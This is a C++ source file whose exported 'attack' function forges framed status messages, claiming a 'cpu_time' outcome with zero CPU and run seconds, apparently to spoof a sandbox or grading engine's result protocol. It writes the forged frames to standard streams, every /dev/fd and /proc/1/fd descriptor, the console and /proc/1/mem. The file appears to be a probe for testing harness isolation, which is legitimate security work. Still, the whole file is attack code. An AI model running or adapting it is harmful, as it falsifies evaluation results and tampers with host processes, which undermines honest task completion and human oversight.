#include <arpa/inet.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <initializer_list>
#include <unistd.h>

static const char STATUS[] = "{\"protocol\": 1, \"outcome\": {\"kind\": \"cpu_time\", \"message\": \"\"},"
                             " \"cpu_seconds\": 0, \"run_seconds\": 0}";
static char frames[512];

// The guest's own frame, and the same once more as the engine sends it for standard output.
static long write_frames() {
    uint32_t length = htonl(sizeof STATUS - 1), outer = htonl(sizeof STATUS + 4);
    char *at = frames;
    for (int engine = 0; engine < 2; engine++) {
        if (engine) {
            memcpy(at, "\1\0\0\0", 4);
            memcpy(at + 4, &outer, 4);
            at += 8;
        }
        *at = 'S';
        memcpy(at + 1, &length, 4);
        memcpy(at + 5, STATUS, sizeof STATUS - 1);
        at += sizeof STATUS + 4;
    }
    return at - frames;
}

extern "C" long attack(long n) {
    long size = write_frames();
    char path[64];
    for (int one = 0; one < 64; one++) {
        // What is open for results is left alone: a broken result is another attack.
        if (one < 3 && write(one, frames, size) < 0)
            printf("%d: %m\n", one);
        for (int process = 0; process < 2; process++) {
            snprintf(path, sizeof path, process ? "/proc/1/fd/%d" : "/dev/fd/%d", one);
            int other = process || one < 3 ? open(path, O_WRONLY | O_NONBLOCK) : -1;
            if (other < 0 || write(other, frames, size) < 0)
                continue;
            printf("%s: written\n", path);
            close(other);
        }
    }
    for (const char *terminal : {"/dev/console", "/dev/tty", "/dev/stdout", "/proc/1/mem"}) {
        int other = open(terminal, O_WRONLY | O_NONBLOCK);
        if (other >= 0 && write(other, frames, size) > 0)
            printf("%s: written\n", terminal);
    }
    return n;
}
